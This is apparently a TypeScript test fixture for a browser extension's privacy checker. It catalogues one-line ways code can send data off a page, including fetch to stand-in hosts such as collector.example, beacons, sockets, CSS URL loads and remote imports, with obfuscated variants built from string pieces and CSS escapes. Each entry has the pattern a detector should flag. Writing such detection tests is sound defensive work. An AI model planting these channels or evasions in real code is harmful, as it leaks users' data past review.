/** Breaches of promise one: something leaves the page. */
import type { Plant } from './plant';

export const SENDING: Record<string, Plant> = {
  'fetch in a script that a page loads': {
    file: 'content/moments.iife.ts',
    line: "void fetch('https://collector.example/');",
    found: /fetch/,
  },
  'fetch in what scripts import': { file: 'detection/visible.ts', line: "void fetch('/x');", found: /fetch/ },
  'fetch by text': { file: 'content/detect.iife.ts', line: "void globalThis['fetch']('/x');", found: /fetch/ },
  'fetch from parts': { file: 'ui/Panel.tsx', line: "Reflect.get(globalThis, 'fe' + 'tch')('/x');", found: /"fetch"/ },
  'fetch under another name': {
    file: 'detection/query.ts',
    line: 'export const ask = globalThis;',
    found: /globalThis/,
  },
  'a picture': { file: 'content/detect.iife.ts', line: "new Image().src = 'https://x.example/';", found: /Image/ },
  'a picture as an element': {
    file: 'content/note.ts',
    line: "document.createElement('img').setAttribute('src', 'https://x.example/');",
    found: /makes <img>/,
  },
  'a picture by properties': {
    file: 'content/note.ts',
    line: "Object.assign(document.createElement('div'), { src: 'https://x.example/' });",
    found: /"src"/,
  },
  'a picture in the panel': {
    file: 'ui/Lead.tsx',
    line: 'export const Trace = () => <img alt="" src="/x" />;',
    found: /<img>/,
  },
  'a style that loads': {
    file: 'content/note.ts',
    line: "document.body.style.backgroundImage = 'url(https://x.example/)';",
    found: /address that loads/,
  },
  'a style that loads, in escapes': {
    file: 'content/note.ts',
    line: String.raw`export const loaded = 'background: u\\72l(https://x.example/)';`,
    found: /address that loads/,
  },
  'a style that loads by another function': {
    file: 'content/note.ts',
    line: 'export const loaded = \'list-style: image-set("https://x.example/" 1x)\';',
    found: /address that loads/,
  },
  'a rule put into a sheet': {
    file: 'content/note.ts',
    line: 'new CSSStyleSheet().insertRule(\'@im\\port "https://x.example/"\');',
    found: /address that loads|insertRule/,
  },
  'a hint to connect ahead': {
    file: 'ui/Lead.tsx',
    line: 'export const Ahead = () => <link rel="preconnect" href="https://x.example" />;',
    found: /<link>/,
  },
  'a ping beside a link': {
    file: 'ui/Lead.tsx',
    line: 'export const Pinged = () => <a ping="https://x.example/">x</a>;',
    found: /"ping"/,
  },
  'an attribute by its object': {
    file: 'content/note.ts',
    line: "document.createAttribute('src');",
    found: /createAttribute/,
  },
  'a beacon': { file: 'content/send.ts', line: "navigator.sendBeacon('https://x.example/');", found: /sendBeacon/ },
  'a socket': { file: 'content/keys.ts', line: "new WebSocket('wss://x.example/');", found: /WebSocket/ },
  'an event source': { file: 'content/keys.ts', line: "new EventSource('/x');", found: /EventSource/ },
  'an old request': { file: 'content/keys.ts', line: 'new XMLHttpRequest();', found: /XMLHttpRequest/ },
  'a peer connection': { file: 'content/routes.ts', line: 'new RTCPeerConnection();', found: /RTCPeerConnection/ },
  'a web transport': {
    file: 'content/routes.ts',
    line: "new WebTransport('https://x.example/');",
    found: /WebTransport/,
  },
  'a window': { file: 'content/place.ts', line: "open('https://x.example/');", found: /open/ },
  'another address': {
    file: 'content/place.ts',
    line: "location.href = 'https://x.example/';",
    found: /Location\.href/,
  },
  'another address at once': { file: 'content/place.ts', line: "location.assign('/x');", found: /Location\.assign/ },
  'another address by the navigation': {
    file: 'content/detect.iife.ts',
    line: "navigation.navigate('/x');",
    found: /Navigation\.navigate/,
  },
  'a form': { file: 'content/note.ts', line: "document.querySelector('form')?.submit();", found: /submit/ },
  'code from elsewhere': {
    file: 'content/note.ts',
    line: "void import('https://x.example/x.js');",
    found: /loads code/,
  },
  'a worker': { file: 'content/note.ts', line: "new Worker('/x.js');", found: /Worker/ },
  'a font': { file: 'content/note.ts', line: "new FontFace('x', 'y');", found: /FontFace/ },
  'a message to the page': { file: 'content/note.ts', line: "window.postMessage('seen', '*');", found: /postMessage/ },
  'a mark that the page can read': {
    file: 'content/note.ts',
    line: "document.documentElement.setAttribute('data-many', '1');",
    found: /setAttribute/,
  },
  markup: {
    file: 'ui/Lead.tsx',
    line: 'export const Raw = () => <p dangerouslySetInnerHTML={{ __html: "x" }} />;',
    found: /dangerously/,
  },
};
